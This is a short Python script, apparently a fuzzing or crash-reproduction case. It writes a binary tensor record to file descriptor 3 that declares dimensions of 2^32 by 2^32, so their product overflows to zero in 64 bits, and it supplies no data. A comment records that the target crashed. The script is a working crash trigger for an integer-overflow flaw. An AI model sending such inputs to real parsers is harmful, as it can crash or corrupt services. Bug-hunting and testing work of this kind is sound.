# Claim sides whose product is zero in 64 bits.
# outcome: crashed

import os, struct

def numbers(key, dtype, shape, data):
    return struct.pack("<cHBB", b"T", len(key), dtype, len(shape)) + key + struct.pack(f"<{len(shape)}Q", *shape) + data

os.write(3, numbers(b"z", 5, (2**32, 2**32), b""))
